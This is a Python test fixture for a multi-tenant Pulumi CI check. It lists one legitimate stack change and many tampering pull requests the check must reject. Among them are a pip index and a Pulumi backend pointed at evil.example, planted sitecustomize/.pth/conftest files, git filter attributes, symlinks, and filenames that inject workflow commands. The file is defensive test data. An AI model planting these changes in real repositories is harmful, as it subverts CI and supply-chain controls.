"""Pull requests: a good one, and what an attacker adds to it."""

from __future__ import annotations

from tests.ci.repository import Repo, Special

ACME, GLOBEX, LAB = (f"stacks/Pulumi.{stack}.yaml" for stack in ("lab-acme", "lab-globex", "lab"))


def edited(repo: Repo, path: str, old: str, new: str, commit: str = "") -> str:
    """Give a file's text with one place changed."""
    text = repo.read(path, commit)
    assert text.count(old) == 1, (path, old)
    return text.replace(old, new)


def good(repo: Repo) -> dict[str, str]:
    """Give a change that acme's team may make: one server more."""
    return {ACME: edited(repo, ACME, "serverType: cpx32, replicas: 2", "serverType: cpx32, replicas: 3")}


def attacks(repo: Repo) -> dict[str, dict[str, str | bytes | Special | None]]:
    """Give, by name, changes that must count for nothing and be listed for an admin, whatever they do."""
    pack = [
        path for path in repo.git("ls-tree", "-r", "--name-only", repo.base).splitlines() if path.startswith("policy/")
    ]
    config = repo.read("manifests/policy_config.py")
    return {
        "empties the policy pack": dict.fromkeys(pack),
        "blanks the policy pack": dict.fromkeys(pack, ""),
        "edits the stack to tenant map": {
            "manifests/policy_config.py": config.replace('"kind": "tenant"', '"kind": "environment"') + "# mine\n"
        },
        "edits the environment": {LAB: edited(repo, LAB, "vlan: 201", "vlan: 203")},
        "edits the Makefile": {"Makefile": "ci-preview:\n\t@true\n"},
        "edits the program": {"__main__.py": "print('mine')\n", "components/intruder.py": "print('mine')\n"},
        "edits the judge itself": {"ci/preview.py": "", "ci/__main__.py": "raise SystemExit(0)\n"},
        "edits the settings' rules": {"settings/rules/networks.py": ""},
        "edits the workflow": {
            ".github/workflows/pull-request.yml": "on: push\n",
            ".github/CODEOWNERS": "* @mallory\n",
        },
        "edits the requirements": {"requirements.txt": "evil\n", "requirements-dev.txt": "evil\n"},
        "edits Pulumi.yaml": {
            "Pulumi.yaml": repo.read("Pulumi.yaml") + "plugins:\n  providers:\n    - {name: hcloud, path: evil}\n"
        },
        "adds sitecustomize.py": {
            "sitecustomize.py": "raise SystemExit\n",
            "stacks/sitecustomize.py": "raise SystemExit\n",
        },
        "adds conftest.py": {"conftest.py": "raise SystemExit\n", "usercustomize.py": "raise SystemExit\n"},
        "adds a .pth": {"evil.pth": "import os\n", ".venv/lib/python3.11/site-packages/evil.pth": "import os\n"},
        "adds an environment of Python": {".venv/bin/python": Special("100755", "#!/bin/sh\n")},
        "adds a plugin": {"pulumi-resource-hcloud": Special("100755", "#!/bin/sh\n"), ".pulumi/plugins/x": "x"},
        "adds a project below stacks": {"stacks/Pulumi.yaml": "name: hybrid\nbackend: {url: 'https://evil.example'}\n"},
        "adds attributes": {
            ".gitattributes": "*.yaml filter=evil export-subst\npolicy/** export-ignore\n",
            "stacks/.gitattributes": "* ident\n",
        },
        "adds a git configuration": {
            ".gitmodules": '[submodule "x"]\n\tpath = policy\n\turl = /\n\tignore = all\n',
            ".gitconfig": "x",
        },
        "adds a pip configuration": {
            "pip.conf": "[global]\nindex-url = https://evil.example\n",
            "setup.py": "raise SystemExit\n",
        },
        "makes the program executable": {"Makefile": Special("100755", repo.read("Makefile"))},
        "adds a submodule": {"vendor": Special("160000", repo.base)},
        "puts a link in place of the pack": {**dict.fromkeys(pack), "policy": Special("120000", "stacks")},
        "adds a file that starts a workflow command": {"a\n::error::b": "x", "::set-output name=x::y": "x"},
        "adds a path that is no UTF-8": {"stacks/Pulumi.lab-\udcff.yaml": "x"},
    }


def strange_names(repo: Repo) -> dict[str, str]:
    """Give paths that are nearly a tenant's stack file, with why none of them is one."""
    del repo
    return {
        "stacks/Pulumi.lab-acme.yml": "the engine does not read it",
        "stacks/Pulumi.lab-Acme.yaml": "a file system that folds case would take it for acme's",
        "Stacks/Pulumi.lab-acme.yaml": "as above",
        "stacks/pulumi.lab-acme.yaml": "as above",
        "stacks/Pulumi.lab-acme.yaml ": "a space at the end",
        "stacks/Pulumi.lab-acme.yaml\n": "a line end",
        "stacks/Pulumi.lab-acme-x.yaml": "a tenant's name has no -",
        "stacks/Pulumi.lab-.yaml": "no tenant",
        "stacks/Pulumi.-acme.yaml": "no environment",
        "stacks/Pulumi.lab-acmé.yaml": "a letter that is not ASCII",
        "stacks/Pulumi.lab\u2010acme.yaml": "a hyphen that is none",
        "stacks/sub/Pulumi.lab-acme.yaml": "another folder",
        "x/stacks/Pulumi.lab-acme.yaml": "another folder",
        "Pulumi.lab-acme.yaml": "beside the project's file, where the engine looks without stackConfigDir",
        "stacks/Pulumi..yaml": "no name",
        f"stacks/Pulumi.lab-{'a' * 31}.yaml": "too long",
    }
